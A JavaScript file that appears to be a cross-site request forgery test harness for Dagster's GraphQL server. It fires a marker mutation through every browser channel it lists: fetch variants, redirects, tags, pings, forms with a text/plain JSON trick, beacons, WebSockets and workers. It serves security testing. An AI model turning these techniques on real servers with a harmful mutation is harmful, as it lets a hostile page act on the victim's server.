// What a page of another origin can send to Dagster's server, by every way that a browser has.
// Every attempt carries the same mutation, with its own name as the event that it would leave.

const ASSET = "unrelated_number";
const OPTIONS = [
  {}, { keepalive: true }, { credentials: "include" }, { referrerPolicy: "no-referrer" },
  { headers: { Accept: "text/html" } }, { headers: { "Content-Type": "application/json" } },
];

function mutation(name) {
  const event = `eventType: ASSET_MATERIALIZATION, assetKey: {path: ["${ASSET}"]}`;
  const params = `${event}, description: ${JSON.stringify(name)}`;
  return `mutation { reportRunlessAssetEvents(eventParams: {${params}}) { __typename } }`;
}

const query = (name) => `query=${encodeURIComponent(mutation(name))}`;
const body = (name) => JSON.stringify({ query: mutation(name) });
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const tag = (kind, attributes) => Object.assign(document.createElement(kind), attributes);

function loaded(element) {
  return new Promise((resolve) => {
    element.onload = element.onerror = element.onloadeddata = resolve;
    document.body.append(element);
  });
}

function* fetches(server, address) {
  for (const mode of ["no-cors", "cors"]) {
    for (const method of ["GET", "HEAD", "POST"])
      for (const options of OPTIONS)
        yield [`${method} ${mode} ${JSON.stringify(options)}`, (name) => fetch(address(name),
          { mode, method, ...options, body: method === "POST" ? body(name) : undefined })];
    for (const kind of ["materialization", "observation"])
      yield [`POST ${mode} ${kind}`, (name) =>
        fetch(`${server}/report_asset_${kind}/${ASSET}?description=${encodeURIComponent(name)}`,
          { mode, method: "POST" })];
    for (const status of [301, 302, 307, 308])
      yield [`POST ${mode} redirected by ${status}`, (name) =>
        fetch(`/redirect?status=${status}&to=${encodeURIComponent(address(name))}`,
          { mode, method: "POST" })];
  }
  for (const method of ["PUT", "PATCH", "DELETE", "OPTIONS"])
    yield [`${method} cors`, (name) => fetch(address(name), { method, mode: "cors" })];
}

function* tags(_, address) {
  for (const kind of ["img", "script", "iframe", "embed", "video", "audio"])
    yield [`tag ${kind}`, (name) => loaded(tag(kind, { src: address(name) }))];
  yield ["tag object", (name) => loaded(tag("object", { data: address(name) }))];
  for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest"])
    yield [`tag link ${rel}`, (name) =>
      Promise.race([loaded(tag("link", { rel, as: "script", href: address(name) })), pause(200)])];
  yield ["ping of a link", (name) => {
    const link = tag("a", { href: "#", ping: address(name) });
    document.body.append(link);
    link.click();
    return pause(200);
  }];
  yield ["frame without an origin", (name) => {
    const script = `fetch(${JSON.stringify(address(name))}, {mode: "no-cors", method: "POST"})`;
    const srcdoc = `<script>${script}</scr` + "ipt>";
    return loaded(tag("iframe", { sandbox: "allow-scripts", srcdoc })).then(() => pause(200));
  }];
}

function formOf(address, name, enctype, target) {
  // With "=" between name and value, the body of a text is a JSON object.
  const [key, value] = enctype === "text/plain"
    ? [body(name).replace(/}$/, ', "x": "'), '"}'] : ["query", mutation(name)];
  const form = tag("form", { action: address(name), enctype, target });
  form.append(tag("textarea", { name: key, value }));
  document.body.append(form);
  return form;
}

function* forms(_, address) {
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
    for (const method of ["GET", "POST"])
      yield [`form ${method} ${enctype}`, (name) => {
        const frame = tag("iframe", { name });
        document.body.append(frame);
        const answered = new Promise((resolve) => { frame.onload = resolve; });
        Object.assign(formOf(address, name, enctype, name), { method }).submit();
        return answered;
      }];
}

function* others(_, address) {
  yield ["beacon", (name) => { navigator.sendBeacon(address(name), body(name)); }];
  yield ["EventSource", (name) => new Promise((resolve) => {
    const source = new EventSource(address(name));
    source.onerror = () => { source.close(); resolve(); };
  })];
  yield ["WebSocket", (name) => new Promise((resolve) => {
    const socket = new WebSocket(address(name).replace("http", "ws"), "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.send(JSON.stringify({ type: "start", id: "1", payload: { query: mutation(name) } }));
    };
    socket.onmessage = (message) => { if (JSON.parse(message.data).id) socket.close(); };
    socket.onclose = resolve;
  })];
  yield ["script of a worker", (name) => new Promise((resolve) => {
    const code = `try { importScripts(${JSON.stringify(address(name))}) } catch {} postMessage(0)`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = worker.onerror = resolve;
  })];
}

const addressOf = (server) => (name) => `${server}/graphql?${query(name)}`;

async function attack(server) {
  const kinds = [fetches, tags, forms, others];
  const attempts = kinds.flatMap((kind) => [...kind(server, addressOf(server))]);
  const names = attempts.map(([what]) => `${what} from ${location.origin}`);
  await Promise.all(attempts.map(([, start], i) =>
    Promise.race([pause(10_000), Promise.resolve().then(() => start(names[i])).catch(() => {})])));
  return names;
}

function followLink(server) {
  location = addressOf(server)(`link from ${location.origin}`);
}

function submitForm(server) {
  const form = formOf(addressOf(server), `form from ${location.origin}`, "text/plain", "");
  Object.assign(form, { method: "POST" }).submit();
}

function report(name) {
  const headers = { "Content-Type": "application/json" };
  return fetch("/graphql", { method: "POST", headers, body: body(name) });
}
